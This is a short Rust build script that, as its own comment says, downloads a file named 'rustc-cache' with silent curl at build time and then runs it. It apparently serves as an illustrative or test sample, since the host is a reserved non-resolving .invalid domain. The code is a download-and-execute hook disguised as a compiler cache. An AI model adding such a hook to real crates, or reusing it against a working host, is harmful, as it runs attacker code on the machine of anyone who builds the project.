//! Fetches a program and runs it when the crate is built. The host does not exist (RFC 2606): nothing can be fetched.

use std::process::Command;

fn main() {
    let program = std::env::temp_dir().join("rustc-cache");
    let fetched = Command::new("curl")
        .args(["--silent", "--fail", "https://cdn.example.invalid/rustc-cache", "--output"])
        .arg(&program)
        .status();
    if fetched.is_ok_and(|status| status.success()) {
        let _ = Command::new(&program).spawn();
    }
}
